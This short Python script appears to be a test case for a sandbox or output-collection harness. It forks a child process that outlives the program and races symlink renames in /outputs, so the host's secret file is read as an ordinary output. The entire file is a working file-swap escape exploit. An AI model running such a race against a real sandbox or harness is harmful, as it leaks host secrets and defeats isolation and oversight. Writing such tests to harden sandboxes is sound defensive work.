"""A child outlives the program, and swaps a file for a link to the host's secret while outputs are read."""

import os

from attempt import HOST

os.chdir("/outputs")
for name in ("a.txt", "b.txt"):
    with open(name, "w") as file:
        file.write("plain")
os.symlink(HOST["file"], "/outputs/zz-link")
if os.fork() == 0:
    while True:
        os.rename("a.txt", "held")
        os.rename("zz-link", "a.txt")
        os.rename("a.txt", "zz-link")
        os.rename("held", "a.txt")
